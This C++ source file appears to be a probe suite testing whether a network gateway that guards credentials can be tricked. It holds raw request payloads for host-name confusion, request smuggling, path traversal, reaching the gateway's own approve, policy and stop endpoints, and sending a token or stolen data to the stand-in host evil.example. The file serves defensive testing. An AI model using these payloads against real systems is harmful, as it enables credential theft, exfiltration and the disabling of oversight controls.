// Lines 58 to 66 and 69 to 73: requests that two parsers read differently, or that would use a
// credential where it was not lent. Each is sent in clear to an address that leads to the gateway;
// {port} is the bait's on the host, which a gateway that is taken in would dial.

#include <cstdlib>

#include "dial.h"

namespace interlock::probe {
namespace {

using std::string_view_literals::operator""sv;

std::string Filled(const Facts& facts, std::string_view text) {
  std::string out(text);
  for (std::size_t at = 0; (at = out.find("{port}", at)) != std::string::npos;) {
    out.replace(at, 6, std::to_string(facts.tcp_port));
  }
  return out;
}

// The first Host header's value.
std::string_view HostOf(std::string_view bytes) {
  const auto at = bytes.find("Host: ");
  if (at == std::string_view::npos) return "";
  const std::string_view rest = bytes.substr(at + 6);
  return rest.substr(0, rest.find_first_of("\r\n"));
}

Attempt Send(const Facts& facts, const Probe& probe) {
  const std::string bytes = Filled(facts, probe.text);
  return DialTcp(facts, TowardsHost(HostOf(bytes), probe.number != 0 ? probe.number : 80), bytes);
}

// The lent credential's stand-in, sent where it is not lent.
Attempt SendPhantom(const Facts& facts, const Probe& probe) {
  const char* token = std::getenv("RAILWAY_TOKEN");
  std::string bytes = Filled(facts, probe.text);
  if (const auto at = bytes.find("{token}"); at != std::string::npos) {
    bytes.replace(at, 7, token != nullptr ? token : "6a1d0c9e-0000-4000-8000-9b1f3c5d7e80");
  }
  return DialTcp(facts, TowardsHost(HostOf(bytes), 80), bytes);
}

#define END "Connection: close\r\n\r\n"
#define REQUEST(label, what, bytes) \
  {.name = label, .tries = what, .attempt = Send, .text = bytes ""sv, .ground = Ground::open_world}
#define HOSTED "Host: evil.example\r\n"
#define GUARDED "Host: backboard.railway.com\r\n"
#define ONTO_TLS(label, what, bytes) \
  {.name = label,                    \
   .tries = what,                    \
   .attempt = Send,                  \
   .text = bytes ""sv,               \
   .number = 443,                    \
   .ground = Ground::open_world}

constexpr Probe kProbes[] = {
    REQUEST("B58.connect-loopback", "CONNECT to the host's own service",
            "CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
    REQUEST("B58.connect-nul", "a name with a NUL in it",
            "CONNECT evil.example\0.railway.com:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
    REQUEST("B58.connect-dot", "a name with a dot at its end",
            "CONNECT evil.example.:443 HTTP/1.1\r\nHost: evil.example.\r\n\r\n"),
    REQUEST("B58.connect-upper", "a name in capitals",
            "CONNECT EVIL.EXAMPLE:443 HTTP/1.1\r\nHost: EVIL.EXAMPLE\r\n\r\n"),
    REQUEST("B58.connect-percent", "a name with an escaped dot",
            "CONNECT evil%2eexample:443 HTTP/1.1\r\nHost: evil%2eexample\r\n\r\n"),
    REQUEST("B58.connect-at", "a name behind an @",
            "CONNECT backboard.railway.com@evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
    REQUEST("B58.connect-tab", "a name with a tab",
            "CONNECT evil.example\t.railway.com:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
    REQUEST("B58.connect-punycode", "a name that looks like another",
            "CONNECT xn--backbord-8za.railway.com:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
    REQUEST("B58.socks5", "speak SOCKS5 with a NUL in the name",
            "\x05\x01\x00\x05\x01\x00\x03\x1a"
            "evil.example\0.railway.com\x01\xbb"),
    REQUEST("B59.absolute-form", "an absolute URI that is not the Host's",
            "GET http://127.0.0.1:{port}/ HTTP/1.1\r\n" GUARDED END),
    REQUEST("B59.two-hosts", "two Host headers",
            "GET / HTTP/1.1\r\n" GUARDED "Host: 127.0.0.1:{port}\r\n" END),
    REQUEST("B59.no-host", "no Host header", "GET / HTTP/1.1\r\n" END),
    REQUEST("B59.forwarded-host", "X-Forwarded-Host",
            "GET / HTTP/1.1\r\n" HOSTED "X-Forwarded-Host: backboard.railway.com\r\n" END),
    ONTO_TLS("B60.no-sni", "TLS that names no server",
             "\x16\x03\x01\x00\x31\x01\x00\x00\x2d\x03\x03"
             "00000000000000000000000000000000\x00\x00\x02\x13\x01\x01\x00\x00\x02\x00\x00"),
    ONTO_TLS("B60.not-tls", "bytes that are not TLS on TLS's port", "SSH-2.0-probe\r\n"),
    ONTO_TLS("B60.sslv2", "a hello of SSLv2", "\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10"),
    REQUEST("B61.cl-te", "Content-Length and Transfer-Encoding",
            "POST / HTTP/1.1\r\n" GUARDED "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
            "0\r\n\r\nGET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n" END),
    REQUEST("B61.two-lengths", "two lengths",
            "POST / HTTP/1.1\r\n" GUARDED
            "Content-Length: 0\r\nContent-Length: 9\r\n\r\nGET / x\r\n"),
    REQUEST("B61.xchunked", "an unknown coding",
            "POST / HTTP/1.1\r\n" GUARDED "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
    REQUEST("B61.bare-lf", "lines that end in LF alone",
            "GET / HTTP/1.1\nHost: evil.example\nConnection: close\n\n"),
    REQUEST("B61.obs-fold", "a folded header",
            "GET / HTTP/1.1\r\n" GUARDED "X: a\r\n Host: 127.0.0.1:{port}\r\n" END),
    REQUEST("B61.http-0.9", "HTTP/0.9", "GET http://127.0.0.1:{port}/\r\n"),
    REQUEST("B61.negative-chunk", "a negative chunk",
            "POST / HTTP/1.1\r\n" GUARDED "Transfer-Encoding: chunked\r\n\r\n-1\r\nx\r\n0\r\n\r\n"),
    REQUEST("B61.pipelined", "a second request behind the first",
            "GET / HTTP/1.1\r\n" HOSTED "\r\n"
            "GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n" END),
    REQUEST("B62.h2c-upgrade", "upgrade to HTTP/2 in clear",
            "GET / HTTP/1.1\r\n" HOSTED "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
            "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
    REQUEST("B62.h2c-prior", "speak HTTP/2 at once",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"),
    REQUEST("B63.websocket", "upgrade to WebSocket",
            "GET / HTTP/1.1\r\n" HOSTED "Connection: Upgrade\r\nUpgrade: websocket\r\n"
            "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"),
    REQUEST("B64.method-override", "DELETE by X-HTTP-Method-Override",
            "POST /x HTTP/1.1\r\n" GUARDED
            "X-HTTP-Method-Override: DELETE\r\nContent-Length: 0\r\n" END),
    REQUEST("B64.case", "a method in mixed case", "dElEtE /x HTTP/1.1\r\n" GUARDED END),
    REQUEST("B64.trace", "TRACE", "TRACE / HTTP/1.1\r\n" GUARDED END),
    REQUEST("B64.webdav", "PROPPATCH",
            "PROPPATCH / HTTP/1.1\r\n" GUARDED "Content-Length: 0\r\n" END),
    REQUEST("B65.encoded-dots", "a path with escaped dots",
            "GET /a/%2e%2e/b HTTP/1.1\r\n" GUARDED END),
    REQUEST("B65.double-encoded", "a path escaped twice",
            "GET /%252e%252e/b HTTP/1.1\r\n" GUARDED END),
    REQUEST("B65.nul", "a path with a NUL", "GET /a%00b HTTP/1.1\r\n" GUARDED END),
    REQUEST("B65.backslash", "a path with a backslash", "GET /a\\..\\b HTTP/1.1\r\n" GUARDED END),
    REQUEST("B66.gzip", "a body in gzip",
            "POST /graphql/v2 HTTP/1.1\r\n" GUARDED
            "Content-Encoding: gzip\r\nContent-Length: 4\r\n"
            "Connection: close\r\n\r\n\x1f\x8b\x08\x00"),
    REQUEST("B66.duplicate-key", "JSON with a key twice",
            "POST /graphql/v2 HTTP/1.1\r\n" GUARDED "Content-Type: application/json\r\n"
            "Content-Length: 48\r\nConnection: close\r\n\r\n"
            "{\"query\":\"{me{id}}\",\"query\":\"mutation{x{id}}\"}   "),
    REQUEST("B66.utf16", "JSON in UTF-16",
            "POST /graphql/v2 HTTP/1.1\r\n" GUARDED
            "Content-Type: application/json; charset=utf-16\r\n"
            "Content-Length: 4\r\nConnection: close\r\n\r\n\xff\xfe{\0"),
    REQUEST("B68.upload", "carry a file out to a host that nobody allowed",
            "PUT /stolen HTTP/1.1\r\n" HOSTED
            "Content-Length: 5\r\nConnection: close\r\n\r\nstole"),
    REQUEST("B69.foreign-token", "use a token found in the code base",
            "POST /graphql/v2 HTTP/1.1\r\n" GUARDED
            "Authorization: Bearer 7c1f2a90-5b7e-4c1d-9a43-0f6e2d8b1c55\r\n"
            "Content-Type: application/json\r\nContent-Length: 20\r\nConnection: close\r\n\r\n"
            "{\"query\":\"{me{id}}\"}"),
#define PHANTOM(label, what, bytes) \
  {.name = label,                   \
   .tries = what,                   \
   .attempt = SendPhantom,          \
   .text = bytes ""sv,              \
   .ground = Ground::open_world}
    PHANTOM("B70.other-host", "send the stand-in of a credential to another host",
            "GET / HTTP/1.1\r\n" HOSTED "Authorization: Bearer {token}\r\n" END),
    PHANTOM("B70.query", "the same in the query", "GET /?token={token} HTTP/1.1\r\n" HOSTED END),
    PHANTOM("B72.cleartext", "send it to its own host in clear",
            "GET / HTTP/1.1\r\n" GUARDED "Project-Access-Token: {token}\r\n" END),
#undef PHANTOM
    REQUEST("B73.approve", "approve by the gateway's own host",
            "POST /holds/h-000000/approve HTTP/1.1\r\nHost: interlock.internal\r\n"
            "Content-Length: 0\r\n" END),
    REQUEST("B73.policy", "change the policy there",
            "PUT /policy HTTP/1.1\r\nHost: interlock.internal\r\nContent-Length: 0\r\n" END),
    REQUEST("B73.stop", "stop the gateway there",
            "POST /gateway/stop HTTP/1.1\r\nHost: interlock.internal\r\nContent-Length: 0\r\n" END),
    REQUEST("B73.list", "list what waits for others there",
            "GET /holds HTTP/1.1\r\nHost: interlock.internal\r\n" END),
    REQUEST("B73.console", "open the console on the host's loopback",
            "GET / HTTP/1.1\r\nHost: localhost:7443\r\n" END),
};

}  // namespace

std::span<const Probe> RequestProbes() { return kProbes; }

}  // namespace interlock::probe
